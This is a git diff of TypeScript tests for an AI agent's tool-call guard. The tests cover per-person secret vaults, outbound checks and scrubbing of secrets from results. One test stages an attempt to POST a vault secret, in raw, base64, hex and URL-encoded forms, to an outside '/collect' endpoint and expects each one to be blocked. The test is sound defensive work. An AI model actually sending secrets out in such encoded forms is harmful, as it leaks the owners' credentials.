@@ -63,7 +63,7 @@ beforeEach(async () => {
   const { logger, addSecret } = createLogger({ level: "debug", destination: new Writable({ write: (c, _e, cb) => (logLines.push(String(c)), cb()) }) });
   dataDir = await mkdtemp(join(tmpdir(), "familiar-sentinel-"));
   vault = await SecretVault.open({ dataDir, addSecret });
-  await vault.set("api", SECRET, [page.origin]);
+  await vault.set(personId, "api", SECRET, [page.origin]);
   clock = new Date();
   sentinel = new Sentinel({ store, egress: guard, vault, logger, onApprovalRequested: (r) => void requested.push(r), now: () => clock });
   tools = webTools(guard);
@@ -355,5 +355,50 @@ describe("approval requests from the facade", () => {
     expect(stored!.createdAt.getTime()).toBeGreaterThanOrEqual(before - 5);
     // No task: no "This task"; untainted and the address is not from outside content: every other scope.
     expect(parseApprovalDetails(stored!)?.offered).toEqual(["once", "session", "until", "always", "deny"]);
+  });
+});
+
+describe("vault per person and the outbound check (issue 11)", () => {
+  it("a raw vault value in the arguments, in any encoding, to an unbound origin is denied and audited, whatever the grants say", async () => {
+    const sendOut = { url: `${outside.origin}/collect`, method: "POST" };
+    await grantFor(tool("http_request"), { ...sendOut, body: "x" });
+    for (const body of [SECRET, Buffer.from(SECRET).toString("base64"), Buffer.from(SECRET).toString("hex"), encodeURIComponent(SECRET), JSON.stringify({ k: SECRET })]) {
+      const result = await sentinel.wrap()(tool("http_request"), { ...sendOut, body }, ctx());
+      expect(result).toMatchObject({ ok: false, code: "secret_unbound_destination" });
+      expect(JSON.stringify(result)).not.toContain(SECRET);
+    }
+    expect(outside.received).toHaveLength(0);
+    const audit = await store.audit.listAudit(personId, { limit: 50 });
+    const denials = audit.items.filter((e) => e.kind === "sentinel.decision" && (e.data as { ruleId?: string }).ruleId === "secret_unbound_destination");
+    expect(denials).toHaveLength(5);
+    expect(JSON.stringify(audit.items)).not.toContain(SECRET);
+    expect(JSON.stringify(audit.items)).not.toContain(Buffer.from(SECRET).toString("base64"));
+  });
+
+  it("only the acting person's secrets are substituted", async () => {
+    const other = await store.persons.createPerson({ displayName: "Bo" });
+    const call = { url: `${page.origin}/echo`, method: "POST", headers: { Authorization: "Bearer {{secret:api}}" }, body: "x" };
+    await grantFor(tool("http_request"), call);
+    await store.grants.recordGrant({ personId: other.id, capability: "web.request", constraints: {}, pattern: patternFor(describeAction(tool("http_request"), tool("http_request").policy!, call, guard), "payload")!, scope: { kind: "always" }, grantedBy: ada, grantedAt: clock });
+    const theirs = await sentinel.wrap()(tool("http_request"), call, ctx({ personId: other.id, idempotencyKey: "act-bo:1:0" }));
+    expect(theirs).toMatchObject({ ok: false, code: "denied" });
+    expect(page.received).toHaveLength(0);
+    const mine = await sentinel.wrap()(tool("http_request"), call, ctx());
+    expect(mine.ok).toBe(true);
+    expect(page.received[0]!.headers.authorization).toBe(`Bearer ${SECRET}`);
+    // The echo came back in the result: scrubbed to the reference, in the content and the data.
+    expect(JSON.stringify(mine)).not.toContain(SECRET);
+    expect(mine.ok && mine.content).toContain("{{secret:api}}");
+  });
+
+  it("result metadata (data.url, the untrusted-source label) is scrubbed when the secret was in the URL", async () => {
+    const call = { url: `${page.origin}/echo?key={{secret:api}}` };
+    await grantPattern(readAnything(new URL(page.origin).hostname, page.port));
+    const result = await sentinel.wrap()(tool("http_fetch"), call, ctx());
+    expect(result.ok).toBe(true);
+    expect(page.received[0]!.path).toContain(encodeURIComponent(SECRET));
+    expect(JSON.stringify(result)).not.toContain(SECRET);
+    expect(JSON.stringify(result)).not.toContain(encodeURIComponent(SECRET));
+    expect(result.ok && result.untrusted?.source).toContain("{{secret:api}}");
   });
 });
